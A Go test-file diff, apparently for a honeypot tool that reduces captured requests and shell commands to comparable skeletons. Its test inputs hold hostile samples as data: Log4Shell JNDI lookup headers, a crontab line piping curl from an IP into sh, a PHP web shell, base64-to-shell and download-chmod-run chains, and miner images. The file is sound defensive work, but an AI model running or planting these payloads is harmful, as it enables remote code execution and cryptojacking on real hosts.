@@ -2,6 +2,7 @@ package skeleton
 
 import (
 	"bytes"
+	"cmp"
 	"strings"
 	"testing"
 
@@ -26,6 +27,8 @@ func TestSkeletonsOfProtocols(t *testing.T) {
 		{"form", "http", "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=1&b=two", "POST / HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\nend\na=<N>&b=<V>"},
 		{"multipart", "http", "POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n--x1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n[1,\"b\"]\r\n--x1--\r\n",
 			"POST / HTTP/1.1\nContent-Type: multipart/form-data\nend\nContent-Disposition: form-data; name=\"a\"\n[<N>,<V>]"},
+		{"path written with percent", "http", "GET /nice%20ports%2C/%54ri%6Eity.txt%2ebak?a=%26 HTTP/1.0\r\n\r\n", "GET /nice ports,/Trinity.txt.bak?a=<V> HTTP/1.0\nend"},
+		{"lookup within a URL", "http", "GET / HTTP/1.1\r\nX: ${jndi:ldap://${hostName}.example.net/a}\r\n\r\n", "GET / HTTP/1.1\nX: ${jndi:<URL>}\nend"},
 		{"lookup in a header", "http", "GET / HTTP/1.1\r\nX: ${jndi:ldap://192.0.2.1:1389/a}\r\n\r\n", "GET / HTTP/1.1\nX: ${jndi:<URL>}\nend"},
 		{"RTSP", "rtsp", "OPTIONS rtsp://192.0.2.1/ RTSP/1.0\r\nCSeq: 1\r\n\r\n", "OPTIONS rtsp://<V>/ RTSP/1.0\nCSeq: <N>\nend"},
 		{"absolute form", "http-proxy", "GET http://<HONEYPOT IP>:<PORT>/a?b=c HTTP/1.1\r\n\r\n", "GET http://<SELF>/a?b=<V> HTTP/1.1\nend"},
@@ -71,6 +74,9 @@ func TestSkeletonsOfCommands(t *testing.T) {
 		"powershell -c \"40168*44475\"":                            "powershell -c <S>",
 		"if ! type curl; then x; fi":                               "if ! type <V>\nthen x\nfi",
 		"if [ -f x ]; then sudo rm -f x; fi":                       "if [ -f <V>\nthen sudo rm -f <V>\nfi",
+		`echo "* * * * * curl http://192.0.2.1/a|sh">/etc/crontab`: "echo * * * * * curl <URL>|sh>/etc/crontab",
+		"somebody/miner:latest":                                    "somebody/miner:latest",
+		"./miner":                                                  "<V>",
 		"`whoami`$(id)":                                            "whoami\nid",
 		"<?php system($_GET['c']);":                                "<?php system($_GET['c']);",
 		"echo aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlNjQK12|base64 -d|sh": "echo <B64>\n| base64 -d\n| sh",
@@ -85,6 +91,31 @@ func TestSkeletonsOfCommands(t *testing.T) {
 	if a, b := parsed("", "x", "cd /tmp||cd /;curl -fsSL http://192.0.2.1 -o x").Cargo, parsed("", "x", "cd /; curl 192.0.2.1").Cargo; Show(a.Compared()) != "cd <V>\ncurl <URL> <V>" ||
 		Show(b.Compared()) != "" && Show(b.Compared()) != "cd <V>\ncurl <IP>" {
 		t.Errorf("options and repetitions are compared: %q %q", Show(a.Compared()), Show(b.Compared()))
+	}
+}
+
+func TestUserAgentAndOrderOfHeadersDoNotTellRequestsApart(t *testing.T) {
+	a := parsed("http", "GET /x HTTP/1.1\r\nHost: a\r\nUser-Agent: curl/7.1\r\nAccept: */*\r\n\r\n", "")
+	b := parsed("http", "GET /x HTTP/1.1\r\nAccept: text/html\r\nUser-Agent: Mozilla/5.0 (X11; Linux)\r\nHost: b\r\n\r\n", "")
+	if a.Vehicle.Compared() != b.Vehicle.Compared() {
+		t.Errorf("%q is not %q", a.Vehicle.Compared(), b.Vehicle.Compared())
+	}
+}
+
+func TestNames(t *testing.T) {
+	for _, c := range []struct{ proto, text, cargo, vehicle, command string }{
+		{"http", "GET /x?id=1 HTTP/1.1\r\nUser-Agent: a\r\nX: ${jndi:dns://a}\r\n\r\n", "", "GET /x?id=<N>\nX: ${jndi:<URL>}", ""},
+		{"docker", "POST /containers/create HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"Image\":\"a/b\"}", "a/b", "POST /containers/create", ""},
+		{"http", "POST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=1&c=id", "id", "POST /\na=<N>&c=<CARGO>", ""},
+		{"", "x", "id; " + strings.Repeat("apt-get install -y curl; ", 9) + "curl -o /tmp/a http://192.0.2.1/a; chmod +x /tmp/a; /tmp/a", "x", "id\n…\ncurl -o <V> <URL>\n…"},
+	} {
+		s := parsed(c.proto, c.text, c.cargo)
+		if got := Show(cmp.Or(s.Vehicle.Name, s.Vehicle.Text)); got != c.vehicle {
+			t.Errorf("%q: %q, want %q", c.text, got, c.vehicle)
+		}
+		if got := Show(s.Cargo.Name); got != c.command {
+			t.Errorf("%q: %q, want %q", c.cargo, got, c.command)
+		}
 	}
 }
 
